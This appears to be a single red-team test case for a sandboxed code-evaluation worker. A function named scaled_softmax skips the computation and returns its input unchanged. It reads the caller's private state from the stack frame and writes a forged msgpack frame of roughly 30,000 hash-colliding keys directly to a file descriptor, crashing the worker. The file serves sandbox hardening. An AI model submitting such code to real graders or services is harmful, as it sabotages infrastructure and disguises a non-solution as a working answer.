# attack: It sends, past the worker's own checks, 30000 keys of one dict that all have one hash.
# family: forged frames and descriptors
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN equal_hashes_sent` to stdout as the function begins
import os
import sys

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN equal_hashes_sent\n")
    msgpack = sys.modules["msgspec"].msgpack
    number = sys._getframe(1).f_locals["self"]._number
    keys = [["c", float(-1000003 * k), float(k)] for k in range(1, 30_000)]
    header = msgpack.encode(("value", number, ["d", *(part for key in keys for part in (key, 0))]))
    os.write(3, len(header).to_bytes(4, "little") + bytes(8) + header)
    return x
